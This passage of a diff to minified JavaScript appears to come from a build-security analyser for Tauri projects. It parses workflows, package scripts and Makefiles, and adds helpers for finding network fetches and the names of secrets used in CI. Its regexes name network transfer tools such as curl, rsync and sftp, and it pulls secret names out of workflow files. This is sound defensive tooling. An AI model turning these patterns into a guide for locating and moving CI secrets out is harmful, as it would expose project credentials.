 text3}function tasksIn(name,value){return!/^(?:tasks|jobs)$/.test(name)||value.kind!=="object"?[[name,value]]:[...value.entries].map(([task,{value:body}])=>[task,
-body])}function makerByLines(file2,folders){const start={folders,variables:new Map,args:[[]]},parts=logicalLines(file2).map(({text:text3,line})=>{const command2=spelledOut(
+body])}function makerByLines(file2,folders){const start={folders,variables:new Map,args:[[]]},parts2=logicalLines(file2).map(({text:text3,line})=>{const command2=spelledOut(
 text3.replace(/^\s*(?:- +|RUN |ENV |CMD |ENTRYPOINT )?/,""));return{script:scriptAt(command2,"posix",{path:file2.path,line,endLine:line}),start}}),at2={path:file2.
-path,line:1,column:1,endLine:1};return{key:file2.path,name:file2.path,at:at2,parts,ships:!0,isForTests:isNamedForTests(file2.path)}}function scriptsIn2(value,depth){
+path,line:1,column:1,endLine:1};return{key:file2.path,name:file2.path,at:at2,parts:parts2,ships:!0,isForTests:isNamedForTests(file2.path)}}function scriptsIn2(value,depth){
 if(depth>MAX_DEPTH)return[];if(value.kind==="string")return[scriptAt(withoutTemplates(value.value),"posix",value.at)];if(value.kind==="object"&&value.entries.get(
 "args")?.value.kind==="array"){const[program2,args]=[member(value,"command")??member(value,"cmd"),member(value,"args")],words4=[textOf2(program2),...stringsOf(args).
 map(word2=>word2.value)];return[scriptAt(withoutTemplates(quoted2(words4)),"posix",value.at)]}if(value.kind==="object")return[...value.entries.values()].flatMap(
@@ -4378,9 +4396,9 @@ void 0||texts2.length<2||!/^[\w./-]+$/.test(first.value)?[]:[scriptAt(withoutTem
 const text3=texts2.map(({value})=>withoutTemplates(value)).join(`
 `),starts3=texts2.flatMap(({value,at:at2})=>value.split(`
 `).map((_3,i2)=>Math.min(at2.line+i2,at2.endLine))),lineAt3=offset=>starts3[text3.slice(0,offset).split(`
-`).length-1]??starts3[0]??1;return{text:text3,dialect:"posix",path:texts2[0]?.at.path??"",lineAt:lineAt3}}function withoutTemplates(text3){const parts=text3.replace(
-/\{\{\s*\.CLI_ARGS\s*\}\}/g,"").split("}}");return parts.map((part,i2)=>i2<parts.length-1?withoutTemplate(part):part).join("")}function withoutTemplate(text3){const start=text3.
-indexOf("{{",text3.lastIndexOf("}")+1);return start<0?`${text3}}}`:text3.slice(0,start).replace(/\$$/,"")+UNKNOWN_WORDS}var ENVIRONMENT=/^(?:build-)?(?:env|environment|variables|vars)$/i;
+`).length-1]??starts3[0]??1;return{text:text3,dialect:"posix",path:texts2[0]?.at.path??"",lineAt:lineAt3}}function withoutTemplates(text3){const parts2=text3.replace(
+/\{\{\s*\.CLI_ARGS\s*\}\}/g,"").split("}}");return parts2.map((part,i2)=>i2<parts2.length-1?withoutTemplate(part):part).join("")}function withoutTemplate(text3){
+const start=text3.indexOf("{{",text3.lastIndexOf("}")+1);return start<0?`${text3}}}`:text3.slice(0,start).replace(/\$$/,"")+UNKNOWN_WORDS}var ENVIRONMENT=/^(?:build-)?(?:env|environment|variables|vars)$/i;
 function variablesIn3(value,depth){const found12=new Map;if(value.kind==="array"&&depth>0)for(const item of value.items)for(const[key3,values]of variablesIn3(item,
 depth-1))found12.set(key3,values);if(value.kind!=="object")return found12;for(const[name,{value:inner}]of value.entries)if(ENVIRONMENT.test(name))for(const[key3,
 values]of namedIn(inner))found12.set(key3,values);else if(depth>0)for(const[key3,values]of variablesIn3(inner,depth-1))found12.set(key3,values);return found12}function namedIn(value){
@@ -4399,11 +4417,11 @@ level,"env");return env?.kind!=="object"?[]:[...env.entries].map(([name,{value}]
 file2);return parsed10.ok?parsed10.value:void 0}function add2(found12,inputs,valuesOf4){if(inputs?.kind==="object")for(const[written6,{value}]of inputs.entries){
 const name=written6.toLowerCase();found12.set(name,[...new Set([...found12.get(name)??[],...valuesOf4(value)])])}}function declaredValues(input){const type=asString(
 member(input,"type"));return type==="choice"?itemsOf(member(input,"options")).map(textOf2):type==="boolean"?["true","false"]:[textOf2(member(input,"default"))]}
-function writtenOut(text3){return text3.includes("${{")?UNKNOWN_WORDS:text3}function localCalls(document){const jobs=member(document,"jobs"),called3=jobs?.kind===
-"object"?[...jobs.entries.values()].map(({value})=>value):[],around2=document===void 0?[]:[document],steps=[...called3.flatMap(job=>itemsOf(member(job,"steps")).
-map(step=>({caller:step,levels:[...around2,job,step]}))),...itemsOf(pick(document,"runs","steps")).map(step=>({caller:step,levels:[step]}))];return[...called3.map(
+function writtenOut(text3){return text3.includes("${{")?UNKNOWN_WORDS:text3}function localCalls(document){const jobs=member(document,"jobs"),called4=jobs?.kind===
+"object"?[...jobs.entries.values()].map(({value})=>value):[],around2=document===void 0?[]:[document],steps=[...called4.flatMap(job=>itemsOf(member(job,"steps")).
+map(step=>({caller:step,levels:[...around2,job,step]}))),...itemsOf(pick(document,"runs","steps")).map(step=>({caller:step,levels:[step]}))];return[...called4.map(
 job=>({caller:job,levels:[]})),...steps].flatMap(({caller,levels})=>{const uses=asString(member(caller,"uses")),path=uses?.startsWith("./")?joined("",uses):null;
-return path===null?[]:[{path,inputs:member(caller,"with"),levels}]})}function isOf({path:called3},path){return called3===path||called3===folderOf(path)}function environmentOf(levels,contexts){
+return path===null?[]:[{path,inputs:member(caller,"with"),levels}]})}function isOf({path:called4},path){return called4===path||called4===folderOf(path)}function environmentOf(levels,contexts){
 const found12=new Map;for(const[name,value]of levels.flatMap(entriesOf))found12.set(heededName(name),withExpressions(textOf2(value),contexts).map(text3=>[text3]));
 return new Map([["GITHUB_WORKSPACE",[[absolute("")]]],...found12])}function entriesOf(level){return[pick(level,"container","env"),member(level,"env")].flatMap(env=>env?.
 kind==="object"?[...env.entries].map(([name,{value}])=>[name,value]):[])}function configurationsIn(levels,contexts){const start={folders:[""],variables:new Map,
@@ -4422,38 +4440,39 @@ for(const item of items){if(item.kind!=="object")continue;const added=[...item.e
 has(name)||text(row.get(name))===text(value)),keys=rows.flatMap(row=>[...row.keys()]);!added.some(([name])=>keys.includes(name))&&found12.length>0?found12=found12.
 map(row=>new Map([...row,...added])):found12.some(fits4)?found12=found12.map(row=>fits4(row)?new Map([...row,...added]):row):own.push(new Map(added))}return[...found12,
 ...own]}function text(value){return value===void 0?"":JSON.stringify(plain(value))}function shippingOf(jobs,id,job){const isShipped2=seemsToShip(textOf3(jobs)),
-parts=partsOf6(job),others=parts.filter(part=>!isOfAction(part)),ships=some2=>seemsToShip([id,...some2.map(textOf3)].join(" "))||isShipped2&&some2.some(part=>HANDS_ON2.
-test(withoutNames(part)));return{byAction:ships(parts),byOthers:ships(others)&&!shipsReleasesOnly(others)}}function partsOf6(job){return[...(job.kind==="object"?
+parts2=partsOf6(job),others=parts2.filter(part=>!isOfAction(part)),ships=some2=>seemsToShip([id,...some2.map(textOf3)].join(" "))||isShipped2&&some2.some(part=>HANDS_ON2.
+test(withoutNames(part)));return{byAction:ships(parts2),byOthers:ships(others)&&!shipsReleasesOnly(others)}}function partsOf6(job){return[...(job.kind==="object"?
 [...job.entries].filter(([name])=>name!=="steps"):[]).map(([,{value}])=>value),...itemsOf(member(job,"steps"))]}function isOfAction(step){return isTauriAction(asString(
 member(step,"uses"))??"")}function textOf3(value){return inOneWord(JSON.stringify(plain(value)))}function withoutNames(value){return inOneWord(JSON.stringify(plain(
 value),(key3,each)=>key3==="name"?void 0:each))}function inOneWord(text3){return text3.replace(/\$\{\{[^}]{0,300}\}\}/g,"$")}var HANDS_ON2=/artifact|upload|\boutputs?\b|GITHUB_OUTPUT|actions\/cache|\bcurl\b|\brsync\b|\bsftp\b|\bpush\b|"uses":"\.|\.(?:sh|ps1|py|rb|bat|cmd|[cm]?[jt]s)\b/i,
-RUNS_PROGRAM=/\.(?:sh|ps1|py|rb|bat|cmd|[cm]?[jt]s)\b|"uses":"\./i,WHOLE_FOLDER=/(?<=[\s"'=/])target(?=\\n|[\s;'"])(?!":)/;function shipsReleasesOnly(parts){const text3=parts.
+RUNS_PROGRAM=/\.(?:sh|ps1|py|rb|bat|cmd|[cm]?[jt]s)\b|"uses":"\./i,WHOLE_FOLDER=/(?<=[\s"'=/])target(?=\\n|[\s;'"])(?!":)/;function shipsReleasesOnly(parts2){const text3=parts2.
 map(textOf3).join(" "),paths3=text3.match(/\btarget\/[^\s"'`,;)]*/g)??[],isOfRelease=path=>/^target\/(?:[^/*?[]+\/)?release\//.test(path);return!(/debug/i.test(
 text3.replace(/--debug\b/g,""))||WHOLE_FOLDER.test(text3))&&!RUNS_PROGRAM.test(text3)&&paths3.length>0&&paths3.every(isOfRelease)}function makersOfWorkflow(file2,document,inputsOf){
 const jobs=member(document,"jobs");return jobs?.kind!=="object"?makersOfAction(file2,document,inputsOf):[...jobs.entries].map(([id,{key:key3,value}])=>{const job={
 file:file2,levels:[document,value],steps:itemsOf(member(value,"steps")),inputs:inputsOf(file2.path).inputs,given:new Map},rows=matrixRows(pick(value,"strategy",
-"matrix"))??[null],parts=distinct(rows.flatMap(row=>partsOf7(job,row))),{byAction,byOthers}=shippingOf(jobs,id,value),shipped=parts.flatMap(part=>part.ships===!0?
-part.script.lineAt(0):[]);return{key:`${file2.path}#${id}`,name:`${baseName(file2.path)}, job ${id}`,at:key3,parts,ships:byAction||byOthers,...!byOthers&&{shipsOnly:new Set(
-shipped)},isForTests:isNamedForTests(id,baseName(file2.path),asString(member(value,"name"))??"")}})}function makersOfAction(file2,document,inputsOf){const runs2=member(
-document,"runs"),steps=itemsOf(member(runs2,"steps")),programs4=runs2===void 0?[]:programsOfAction(file2,runs2);if(steps.length===0&&programs4.length===0)return[];
-const{inputs,variables:given2}=inputsOf(file2.path),job={file:file2,levels:[document],steps,inputs,given:given2},name=folderOf(file2.path)||file2.path,parts=[...programs4,
-...partsOf7(job,new Map)];return[{key:file2.path,name,at:document.at,parts,ships:!0,isForTests:!1}]}function programsOfAction({path},runs2){const start={folders:[
-folderOf(path)],variables:new Map,args:[[]]},[using,...programs4]=["using","main","pre","post"].map(key3=>textOf2(member(runs2,key3))),args=stringsOf(member(runs2,
-"args")??runs2).map(({value})=>value);return((using??"").startsWith("docker")?[[textOf2(member(runs2,"entrypoint")),...args].filter(Boolean)]:programs4.filter(Boolean).
-map(program2=>["node",program2])).filter(words4=>words4.length>0).map(words4=>({script:scriptAt(quoted2(words4),"posix",runs2.at),start}))}function partsOf7(job,row){
-const outer=contextsOf(job,row,new Map),shared2=new Map([...job.given,...withHandedOn(environmentOf(job.levels,outer),job.steps)]),parts=job.steps.flatMap(step=>{
-const variables=new Map([...shared2,...environmentOf([step],contextsOf(job,row,shared2))]),contexts=contextsOf(job,row,variables),uses=asString(member(step,"use\
-s")),ran=uses===void 0?partsOfRun(job,step,contexts,variables):partsOfAction(step,uses,contexts,variables);return[...configurationsIn([step],contexts),...ran]});
-return[...configurationsIn(job.levels,outer),...parts]}function partsOfRun(job,step,contexts,variables){const run=member(step,"run");if(run?.kind!=="string")return[];
-const start={folders:foldersIn(settingOf(job,step,"working-directory"),contexts),variables,args:[[]]},[program2=""]=settingOf(job,step,"shell").join(" ").split(
-" "),scripts2=withExpressions(run.value,contexts).map(text3=>INTERPRETER.test(program2)?codeAt(program2,text3,run.at):scriptAt(text3,dialectOf2(job,step,contexts),
-run.at)),started2=(program2===""||INTERPRETER.test(program2)||SHELL6.test(program2)?[]:[program2]).flatMap(shell=>run.value.split(`
+"matrix"))??[null],parts2=distinct(rows.flatMap(row=>partsOf7(job,row))),{byAction,byOthers}=shippingOf(jobs,id,value),shipped=parts2.flatMap(part=>part.ships===
+!0?part.script.lineAt(0):[]);return{key:`${file2.path}#${id}`,name:`${baseName(file2.path)}, job ${id}`,at:key3,parts:parts2,ships:byAction||byOthers,...!byOthers&&
+{shipsOnly:new Set(shipped)},isForTests:isNamedForTests(id,baseName(file2.path),asString(member(value,"name"))??"")}})}function makersOfAction(file2,document,inputsOf){
+const runs2=member(document,"runs"),steps=itemsOf(member(runs2,"steps")),programs4=runs2===void 0?[]:programsOfAction(file2,runs2);if(steps.length===0&&programs4.
+length===0)return[];const{inputs,variables:given2}=inputsOf(file2.path),job={file:file2,levels:[document],steps,inputs,given:given2},name=folderOf(file2.path)||
+file2.path,parts2=[...programs4,...partsOf7(job,new Map)];return[{key:file2.path,name,at:document.at,parts:parts2,ships:!0,isForTests:!1}]}function programsOfAction({
+path},runs2){const start={folders:[folderOf(path)],variables:new Map,args:[[]]},[using,...programs4]=["using","main","pre","post"].map(key3=>textOf2(member(runs2,
+key3))),args=stringsOf(member(runs2,"args")??runs2).map(({value})=>value);return((using??"").startsWith("docker")?[[textOf2(member(runs2,"entrypoint")),...args].
+filter(Boolean)]:programs4.filter(Boolean).map(program2=>["node",program2])).filter(words4=>words4.length>0).map(words4=>({script:scriptAt(quoted2(words4),"posi\
+x",runs2.at),start}))}function partsOf7(job,row){const outer=contextsOf(job,row,new Map),shared2=new Map([...job.given,...withHandedOn(environmentOf(job.levels,
+outer),job.steps)]),parts2=job.steps.flatMap(step=>{const variables=new Map([...shared2,...environmentOf([step],contextsOf(job,row,shared2))]),contexts=contextsOf(
+job,row,variables),uses=asString(member(step,"uses")),ran=uses===void 0?partsOfRun(job,step,contexts,variables):partsOfAction(step,uses,contexts,variables);return[
+...configurationsIn([step],contexts),...ran]});return[...configurationsIn(job.levels,outer),...parts2]}function partsOfRun(job,step,contexts,variables){const run=member(
+step,"run");if(run?.kind!=="string")return[];const start={folders:foldersIn(settingOf(job,step,"working-directory"),contexts),variables,args:[[]]},[program2=""]=settingOf(
+job,step,"shell").join(" ").split(" "),scripts2=withExpressions(run.value,contexts).map(text3=>INTERPRETER.test(program2)?codeAt(program2,text3,run.at):scriptAt(
+text3,dialectOf2(job,step,contexts),run.at)),started2=(program2===""||INTERPRETER.test(program2)||SHELL6.test(program2)?[]:[program2]).flatMap(shell=>run.value.
+split(`
 `).map(line=>scriptAt(`${quoted2([shell])} ${line}`,"posix",run.at)));return[...scripts2,...started2].map(script=>({script,start}))}var SHELL6=/^(?:.*\/)?(?:bash|sh|zsh|pwsh|powershell|cmd|msys2|wsl-bash|fish|nu|nix|xvfb-run|\$.*)$/;
 function codeAt(program2,code2,at2){return scriptAt(quoted2([program2,"-e",code2]),"posix",at2)}function partsOfAction(step,uses,contexts,variables){if(isTauriAction(
 uses)){const{commands:commands2,folders,input,scripts:scripts2}=actionCall(step,contexts,variables),given2=new Map([...variables,["INPUT_TAURISCRIPT",scripts2.map(
 script=>[script])]]),start2={folders:foldersIn(folders,contexts),variables:given2,args:[[]]};return commands2.map(text3=>({script:scriptAt(text3,"posix",(input??
 step).at),start:start2,ships:!0}))}const inputs=member(step,"with");if(inputs?.kind!=="object"||uses.startsWith("./"))return[];const values=new Map([...inputs.entries].
-map(([name,{value}])=>[name.toLowerCase(),value])),code2=uses.startsWith("actions/github-script@")?values.get("script"):void 0;if(code2!==void 0)return withExpressions(
+map(([name,{value}])=>[name.toLowerCase(),value])),code2=/^actions\/github-script@/i.test(uses)?values.get("script"):void 0;if(code2!==void 0)return withExpressions(
 textOf2(code2),contexts).map(text3=>({script:codeAt("node",text3,code2.at),start:{folders:[""],variables,args:[[]]}}));const together5=[values.get("command"),values.
 get("args")].map(textOf2).filter(Boolean).join(" "),start={folders:foldersIn([textOf2(values.get("working-directory")??values.get("cwd"))],contexts),variables,args:[
 []]};return[...[...values.values()].map(value=>[textOf2(value),value]),...[...values].flatMap(([name,value])=>handedOn2(name,textOf2(value)).map(text3=>[text3,value])),
@@ -4470,8 +4489,8 @@ context2==="inputs"?lookedUp2(inputs,path)??[""]:context2==="github"&&path.start
 const found12=[...values.keys()].find(key3=>key3.toLowerCase()===name);return found12===void 0?void 0:values.get(found12)}function valueIn(row,[name="",...names4]){
 const first=lookedUp2(row,name),value=names4.reduce(propertyOf,first);if(value?.kind==="object"||value?.kind==="array")return;const text3=textOf2(value);return text3.
 includes("${{")?void 0:[text3]}function propertyOf(value,name){if(value?.kind==="object")return[...value.entries].find(([key3])=>key3.toLowerCase()===name)?.[1].
-value}function distinct(parts){const meaning3=({script,start})=>JSON.stringify([script.text,script.lineAt(0),start.folders,[...start.variables]]);return[...new Map(
-parts.map(part=>[meaning3(part),part])).values()]}function makersOf(app,files){const starting=[...files.values()].filter(({path})=>mayStartBuilds(path,app)),taken4=new Map(
+value}function distinct(parts2){const meaning3=({script,start})=>JSON.stringify([script.text,script.lineAt(0),start.folders,[...start.variables]]);return[...new Map(
+parts2.map(part=>[meaning3(part),part])).values()]}function makersOf(app,files){const starting=[...files.values()].filter(({path})=>mayStartBuilds(path,app)),taken4=new Map(
 starting.map(file2=>[file2.path,filesTakenIn(file2,files)])),workflows2=starting.filter(({path})=>isWorkflow(path)),inputsOf=inputsOfWorkflows(workflows2);return starting.
 flatMap(file2=>{if(isPackageManifest(file2.path))return[...packageScripts(file2),...otherCommands(file2)].map(script=>makerOfPackageScript(script,packageSettings(
 file2)));if(isWorkflow(file2.path)){const parsed10=parseFile(file2);return parsed10.ok?makersOfWorkflow(file2,parsed10.value,inputsOf):[]}if(isMakefile(file2.path)||
@@ -4483,14 +4502,14 @@ const{name,text:text3,path}=script,start={folders:[folderOfScript(script)],varia
 isForTests:isNamedForTests(name)}}function readOtherwiseByCmd(text3){return/\^|%\w+%/.test(text3)}function seemsToBuild(code2){return/\b(?:build|bundle)\b|TAURI_|RUSTFLAGS|CARGO_/.
 test(code2)&&mayStartTauri(code2.replace(/\btauri["'`,\s]{1,10}dev\b/g,""))}function makersOfScript(file2,app){const dialect=dialectOf(file2),isStarted=dialect===
 void 0&&isProgram(file2.path)&&seemsToBuild(file2.text);if(dialect===void 0&&!isStarted)return[];const start={folders:[...new Set(["",folderOf(app.root),app.root,
-folderOf(file2.path)])],variables:new Map,args:[[]]},at2={path:file2.path,line:1,column:1,endLine:1},isForTests2=isNamedForTests(baseName(file2.path)),parts=[{script:dialect===
-void 0?scriptAt(quoted2([`./${baseName(file2.path)}`]),"posix",at2):scriptOf(file2,dialect),start}];return[{key:file2.path,name:file2.path,at:at2,parts,ships:!1,
-isForTests:isForTests2}]}var MOST_RESULTS=8,Recent=class{#results=new Map;get(key3,compute){const known13=this.#results.get(key3);if(known13!==void 0)return known13;
-const result2=compute();this.#results.set(key3,result2);const[oldest]=this.#results.keys();return this.#results.size>MOST_RESULTS&&oldest!==void 0&&this.#results.
-delete(oldest),result2}};function startedBuilds(app,files,contents){const{made:made2,isCut}=madeByAll(app,files,contents),causes=causesOf(made2,app);return{builds:[
-...made2.flatMap(({builds:builds2})=>builds2),...environmentBuilds(made2,files)],gaps:onePerCause([...causes.slice(0,MOST_CAUSES).map(cause=>gapOf(cause,contents)),
-...unreadWorkflowGaps(app,files),...leftOut2(causes.slice(MOST_CAUSES),isCut,app,files,contents)])}}function leftOut2(causes,isCut,app,files,contents){if(!isCut&&
-causes.length===0)return[];const paths3=isCut?[""]:[...new Set(causes.flatMap(ownPaths))].sort(),ids=mayRunOf(app,files).map(({id})=>id);return[tooManyCommands(
+folderOf(file2.path)])],variables:new Map,args:[[]]},at2={path:file2.path,line:1,column:1,endLine:1},isForTests2=isNamedForTests(baseName(file2.path)),parts2=[{
+script:dialect===void 0?scriptAt(quoted2([`./${baseName(file2.path)}`]),"posix",at2):scriptOf(file2,dialect),start}];return[{key:file2.path,name:file2.path,at:at2,
+parts:parts2,ships:!1,isForTests:isForTests2}]}var MOST_RESULTS=8,Recent=class{#results=new Map;get(key3,compute){const known13=this.#results.get(key3);if(known13!==
+void 0)return known13;const result2=compute();this.#results.set(key3,result2);const[oldest]=this.#results.keys();return this.#results.size>MOST_RESULTS&&oldest!==
+void 0&&this.#results.delete(oldest),result2}};function startedBuilds(app,files,contents){const{made:made2,isCut}=madeByAll(app,files,contents),causes=causesOf(
+made2,app);return{builds:[...made2.flatMap(({builds:builds2})=>builds2),...environmentBuilds(made2,files)],gaps:onePerCause([...causes.slice(0,MOST_CAUSES).map(
+cause=>gapOf(cause,contents)),...unreadWorkflowGaps(app,files),...leftOut2(causes.slice(MOST_CAUSES),isCut,app,files,contents)])}}function leftOut2(causes,isCut,app,files,contents){
+if(!isCut&&causes.length===0)return[];const paths3=isCut?[""]:[...new Set(causes.flatMap(ownPaths))].sort(),ids=mayRunOf(app,files).map(({id})=>id);return[tooManyCommands(
 app,[...ids.sort(),...paths3.map(contents.at)])]}function ownPaths(cause){const{ran,on:on3=[]}="unseen"in cause?cause.unseen:{...cause.write,on:[]};return[...ran.
 words.flatMap(word2=>pathsIn(word2,ran.folders)),...on3]}function runsTooMuch(app,files){return app!==null&&commandsOfMakers(app,files).isCut}var MOST_CAUSES=200;
 function causesOf(made2,app){return made2.flatMap(({maker:maker2,unseen,commands:commands2,builds:builds2,dependencies})=>[...unseen.map(each=>({unseen:each,ships:isShipped(
@@ -4536,9 +4555,10 @@ line,endLine:line};return words4[0]==="deno"?[]:words4.flatMap((word2,i2)=>{cons
 ix",at2),start:{folders,variables,args:[args]}}]})}function beforeAndAfter({words:words4,path,line,folders,variables},runnable){const call2=packageCall(words4);
 if(call2===void 0)return[];const at2={path,line,endLine:line};return[`pre${call2.name}`,`post${call2.name}`].flatMap(name=>runnable.scripts.has(name)?[{script:scriptAt(
 `npm run ${name}`,"posix",at2),start:{folders,variables,args:[[]]}}]:[])}function expressionsIn(text3){const[,...pieces]=text3.split("${{");return pieces.map(piece=>/^(?:'[^']*'|[^'}]|\}(?!\}))*/.
-exec(piece)?.[0]??"")}var MOST2=12;function secretsOfBuilds({files}){const names4=[...files.values()].filter(({path,text:text3})=>isWorkflow(path)&&/tauri/i.test(
-text3)).flatMap(({text:text3})=>expressionsIn(text3).flatMap(each=>[...each.matchAll(/\bsecrets\.(\w+)/g)].map(([,name=""])=>name)));return[...new Set(names4)].
-sort().slice(0,MOST2)}function runsOf(project){const known13=found5.get(project);if(known13!==void 0)return known13;const secrets=secretsOfBuilds(project),runnable=runnableOf(
+exec(piece)?.[0]??"")}function plainNames(text3){return text3.replace(/(?<=[\w*\])])\s*\[\s*(['"])([\w-]+)\1\s*\]/g,".$2").replace(/(?<=[\w*\])])\s*\.\s*(?=[\w*])/g,
+".")}var MOST2=12;function secretsOfBuilds({files}){const names4=[...files.values()].filter(({path,text:text3})=>isWorkflow(path)&&/tauri/i.test(text3)).flatMap(
+({text:text3})=>expressionsIn(text3).flatMap(each=>[...plainNames(each).matchAll(/\bsecrets\.(\w+)/gi)].map(([,name=""])=>name)));return[...new Set(names4)].sort().
+slice(0,MOST2)}function runsOf(project){const known13=found5.get(project);if(known13!==void 0)return known13;const secrets=secretsOfBuilds(project),runnable=runnableOf(
 project.files),runs2=[...[configuredEntries,lifecycleEntries,xcodeEntries].flatMap(of2=>of2(project,secrets)).map(entry=>runOf(entry,runnable)),...madeRuns(project,
 secrets),...otherScripts(project).map(entry=>runOf(entry,runnable))];return found5.set(project,runs2),runs2}var found5=new WeakMap;function runOf({part,...rest2},runnable){
 return{...rest2,entry:entryOf2(part),commands:commandsOf(part,runnable)}}function madeRuns({location,files},secrets){const{runs:runs2}=commandsOfMakers(location,
@@ -4552,17 +4572,18 @@ build/package-script-changed",by:(0,import_shared_acegpst.code)(`npm run ${scrip
 id:"build-steps",scope:"app",layered:!0,files:FILES,follows:ofNativeBuilds,opens(project){const started2=pathsOfPrograms(runsOf(project).filter(isOfBuild)),programs4=programsFrom(
 [...started2,...ownCode(project)],project.files,project.location);return[...new Set([...started2,...programs4.flatMap(file2=>pathsAsked(file2,project.location))])]},
 read(project){const runs2=runsOf(project),secrets=secretsOfBuilds(project),started2=pathsOfPrograms(runs2.filter(isOfBuild)),programs4=programsFrom([...started2,
-...ownCode(project)],project.files,project.location),grants=[...runs2.flatMap(run=>commandGrants(run,project)),...programs4.flatMap(file2=>programGrants(file2,secrets)),
-...programs4.flatMap(bundledGrants),...buildScriptGrants(project,secrets),...replacedGrants(project,runs2.filter(isOfBuild),secrets)],gaps=programs4.flatMap(file2=>[
-...programGaps(file2),...bundledGaps(file2)]);return{grants,gaps:[...gaps,...nativeBuildGaps(project)]}}};function isOfBuild({rule}){return rule!=="build/packag\
-e-script-changed"}function ownCode(project){return[...[...project.files.keys()].filter(path=>isBundler(path,project.location)),...codeOfPhones(project)]}function lineOf3(heading,key3,value){
-return`${heading===""?"":`[${heading}] `}${inKey(key3)} = ${inToml(value)}`}function inKey(name){return/^[\w-]+$/.test(name)?name:JSON.stringify(name)}function inToml(value){
-switch(value.kind){case"object":return`{ ${membersOf2(value).map(([name,each])=>`${inKey(name)} = ${inToml(each)}`).join(", ")} }`;case"array":return`[${value.items.
-map(inToml).join(", ")}]`;default:return JSON.stringify(plain(value))}}function crateSpec(entry){const text3=asString(entry)??asString(member(entry,"crate"));if(text3!==
-void 0)return specIn(text3);const crate2=asString(member(entry,"name"));return crate2===void 0?void 0:specOf(crate2,asString(member(entry,"version")))}function specIn(text3){
-const[,crate2=text3,mark,version]=/^([^@]*?)(@)(.*)$/.exec(text3)??/^([^:]*)(:)(.*)$/.exec(text3)??[];return specOf(crate2,mark==="@"?`=${version}`:version)}function specOf(crate2,version){
-return{crate:crate2,conditions:version===void 0||version==="*"?[]:[`version ${version}`]}}function denySetting(said2,conditions=[]){const decides3=said2.effect===
-"more"?"approval":"guard";return{...said2,decides:decides3,from:"deny.toml",value:conditions.join(`
+...ownCode(project)],project.files,project.location),grants=[...runs2.flatMap(run=>[...commandGrants(run,project),...fetchingGrants(run,project)]),...programs4.
+flatMap(file2=>programGrants(file2,secrets)),...programs4.flatMap(bundledGrants),...buildScriptGrants(project,secrets),...replacedGrants(project,runs2.filter(isOfBuild),
+secrets)],gaps=programs4.flatMap(file2=>[...programGaps(file2),...bundledGaps(file2)]);return{grants,gaps:[...gaps,...nativeBuildGaps(project)]}}};function isOfBuild({
+rule}){return rule!=="build/package-script-changed"}function ownCode(project){return[...[...project.files.keys()].filter(path=>isBundler(path,project.location)),
+...codeOfPhones(project)]}function lineOf3(heading,key3,value){return`${heading===""?"":`[${heading}] `}${inKey(key3)} = ${inToml(value)}`}function inKey(name){
+return/^[\w-]+$/.test(name)?name:JSON.stringify(name)}function inToml(value){switch(value.kind){case"object":return`{ ${membersOf2(value).map(([name,each])=>`${inKey(
+name)} = ${inToml(each)}`).join(", ")} }`;case"array":return`[${value.items.map(inToml).join(", ")}]`;default:return JSON.stringify(plain(value))}}function crateSpec(entry){
+const text3=asString(entry)??asString(member(entry,"crate"));if(text3!==void 0)return specIn(text3);const crate2=asString(member(entry,"name"));return crate2===
+void 0?void 0:specOf(crate2,asString(member(entry,"version")))}function specIn(text3){const[,crate2=text3,mark,version]=/^([^@]*?)(@)(.*)$/.exec(text3)??/^([^:]*)(:)(.*)$/.
+exec(text3)??[];return specOf(crate2,mark==="@"?`=${version}`:version)}function specOf(crate2,version){return{crate:crate2,conditions:version===void 0||version===
+"*"?[]:[`version ${version}`]}}function denySetting(said2,conditions=[]){const decides3=said2.effect==="more"?"approval":"guard";return{...said2,decides:decides3,
+from:"deny.toml",value:conditions.join(`
 `)}}function bansIn(policy){const bans=member(policy,"bans");return[...itemsOf(member(bans,"deny")).flatMap(banOf),...listOfAllowed(pick(policy,"bans","allow"))]}
 function banOf(entry){const spec=crateSpec(entry);if(spec===void 0||asBoolean(member(entry,"deny-multiple-versions"))===!0)return[];const unless2=stringsOf(member(
 entry,"wrappers")).map(({value})=>`but for ${value}`),written6=lineOf3("bans","deny",{kind:"array",items:[entry],at:entry.at}),ban={name:"bans.deny",of:spec.crate,
@@ -4621,9 +4642,9 @@ gaps}}function versionOf(root){const version=member(root,"version");return versi
 tadata")!==void 0?1:2}function inlineChecksum(root){for(const entry of itemsOf(member(root,"package"))){const checksum=member(entry,"checksum");if(checksum!==void 0)
 return checksum}}function entriesOf2(root){const entries=itemsOf(member(root,"package")),legacy=member(root,"root");return legacy===void 0?entries:[legacy,...entries]}
 function modelOf(path,version,root,entries){const gaps=[],drafts=[],metadata=metadataChecksums(root);for(const entry of entries){const draft=draftOf(entry,metadata,
-version,gaps);draft!==void 0&&drafts.push(draft)}gaps.push(...mixedChecksums(root,metadata),...duplicates(drafts),...unpinned(drafts));const byName3=Map.groupBy(
+version,gaps);draft!==void 0&&drafts.push(draft)}gaps.push(...mixedChecksums(root,metadata),...duplicates(drafts),...unpinned(drafts));const byName4=Map.groupBy(
 drafts,draft=>draft.name),index=indexOf(drafts);for(const draft of drafts)draft.dependencies=edgesOf(draft.entry,index,version);return{path,version,packages:drafts,
-byName:byName3,unusedPatches:unusedPatches(root,version),gaps}}function unusedPatches(root,version){return itemsOf(pick(root,"patch","unused")).flatMap(entry=>{
+byName:byName4,unusedPatches:unusedPatches(root,version),gaps}}function unusedPatches(root,version){return itemsOf(pick(root,"patch","unused")).flatMap(entry=>{
 const[name,number]=[asString(member(entry,"name")),asString(member(entry,"version"))];if(name===void 0||number===void 0)return[];const source=cargoSource(asString(
 member(entry,"source")),version);return[{name,version:number,source}]})}function draftOf(entry,metadata,version,gaps){const name=member(entry,"name"),number=member(
 entry,"version"),raw=member(entry,"source");if(name?.kind!=="string"||number?.kind!=="string"||raw!==void 0&&raw.kind!=="string"){gaps.push((0,import_shared_acegos.gapAt)(
@@ -4646,10 +4667,10 @@ return(0,import_shared_acegos.gapAt)(draft.lines.source,{kind:"not-checked",rest
 draft.source)),message})})}function indexOf(packages){const index=new Map;for(const each of packages){const named12=[each.name,each.version,(0,import_shared_ce.sourceWithoutCommit)(
 each.source)];for(const key3 of new Set([1,2,3].map(length=>keyOf(named12.slice(0,length)))))file(index,key3,each)}return index}function file(index,key3,each){const own=each.
 source.kind==="path"?each:void 0,known13=index.get(key3);if(known13===void 0){index.set(key3,{first:each,count:1,own,owns:own===void 0?0:1,oneVersion:!0});return}
